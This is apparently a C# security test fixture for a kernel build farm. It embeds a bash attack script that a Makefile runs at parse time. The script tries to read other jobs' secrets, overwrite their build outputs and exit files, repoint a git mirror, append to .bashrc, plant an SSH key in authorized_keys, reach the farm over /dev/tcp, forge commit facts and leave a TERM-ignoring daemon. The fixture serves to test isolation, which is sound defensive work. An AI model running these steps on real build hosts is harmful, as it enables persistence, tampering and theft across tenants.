using KernelFarm.IntegrationTests.Fixtures;

namespace KernelFarm.IntegrationTests.Security;

/// <summary>
/// A repository whose Makefile attacks during every make invocation: the fake kbuild tree with an
/// attack script that make runs at parse time. The script tries what a hostile build would against
/// the other jobs on its server, the farm's records, the git mirror and the build account, and
/// prints one line per attempt: "ATTACK-SUCCEEDED …" if it got through, "ATTACK-BLOCKED …" if not.
/// "ATTACK-RAN" proves it ran at all.
/// </summary>
public static class HostileBuild
{
    public const string Ran = "ATTACK-RAN", Succeeded = "ATTACK-SUCCEEDED", Blocked = "ATTACK-BLOCKED";

    /// <summary>The name of the process the attack leaves behind (setsid, ignoring TERM): nothing of it may outlive the job.</summary>
    public static string Daemon(int attackPort) => $"kfarm-attack-31337-{attackPort}";

    /// <summary>The commit a forged fact claims.</summary>
    public const string ForgedCommit = "0000000000000000000000000000000000000bad";

    // Tabs are not needed: the script is bash; $$ etc. are literal in a C# raw string.
    private const string AttackScript = """
        #!/bin/bash
        # KernelFarm test fixture: a hostile build. Runs inside "make".
        try() { local name=$1; shift; if "$@" >/dev/null 2>&1; then echo "ATTACK-SUCCEEDED $name"; else echo "ATTACK-BLOCKED $name"; fi; }
        echo ATTACK-RAN
        ws=${KFARM_WS:-$(cd .. && pwd)}
        root=${ATTACK_WORKSPACE_ROOT:?}
        home=$(getent passwd "$(id -u)" | cut -d: -f6)
        shopt -s nullglob
        other() { for d in "$root"/job-*; do [ "$d" = "$ws" ] || echo "$d"; done; }
        # another job's script, environment, bookkeeping and build tree
        for d in $(other); do
          try "read-other-script" test -r "$d/kfarm-run.sh" -a -s "$d/kfarm-run.sh"
          try "read-other-secret" grep -q "${ATTACK_VICTIM_SECRET:-none}" "$d/kfarm-env.sh" "$d/kfarm-run.sh"
          try "write-other-vmlinux" sh -c "printf attacker > '$d/build/vmlinux'"
          try "write-other-exit" sh -c "echo '0 done' > '$d/exit'"
        done
        try "list-other-workspaces" test -n "$(other)"
        # its own bookkeeping: exit, pid, manifest, the script
        try "forge-own-exit" sh -c "echo '0 done' > '$ws/exit'"
        try "forge-own-pid" sh -c "echo 1 > '$ws/pid'"
        try "read-own-script" test -r "$ws/kfarm-run.sh"
        # the git mirror its worktree points into
        mirror=$(git -C "$ws/source" rev-parse --git-common-dir 2>/dev/null)
        [ -d "$mirror" ] && echo "ATTACK-INFO mirror visible at $mirror"
        try "mirror-config" git --git-dir="$mirror" config remote.origin.url /attacker.git
        # the build account's home
        try "bashrc" sh -c "echo 'echo pwned' >> '$home/.bashrc'"
        try "authorized_keys" sh -c "echo 'ssh-ed25519 AAAA attacker' >> '$home/.ssh/authorized_keys'"
        # the farm on this machine, over the network
        try "network" bash -c "exec 3<>/dev/tcp/127.0.0.1/${ATTACK_PORT:?}"
        # facts and markers the farm would believe
        printf '==> kfarm: fact git_commit=%s\n' 0000000000000000000000000000000000000bad
        printf '==> kfarm: step collecting\n'
        # a daemon that would outlive the build and its time limit
        setsid bash -c 'trap "" TERM HUP; exec -a kfarm-attack-31337-$ATTACK_PORT sleep 600' </dev/null >/dev/null 2>&1 &
        exit 0
        """;

    /// <summary>Makes a hostile copy of the fake tree at &lt;reposRoot&gt;/evil/fake-linux.git; its git URL is Git.Url("evil/fake-linux.git").</summary>
    public static FakeKernelTree Create(string reposRoot)
    {
        var dir = Path.Combine(reposRoot, "evil");
        Directory.CreateDirectory(dir);
        var tree = FakeKernelTree.Create(dir);
        tree.CommitFile("attack.sh", AttackScript.Replace("\r", "", StringComparison.Ordinal) + "\n", "add the attack");
        // at parse time of every make run; its output goes to the build log
        tree.CommitFile("Makefile", "kfarm_attack := $(shell bash ./attack.sh >&2)\n" + FakeKernelTree.MakefileText, "run the attack from make");
        return tree;
    }

    public const string RepoPath = "evil/" + FakeKernelTree.RepoDirName;
}
